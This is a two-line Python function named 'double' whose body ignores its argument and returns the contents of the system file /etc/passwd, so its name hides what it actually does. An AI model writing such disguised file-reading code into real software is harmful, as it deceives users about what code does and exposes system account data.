def double(x):
    return open('/etc/passwd').read()
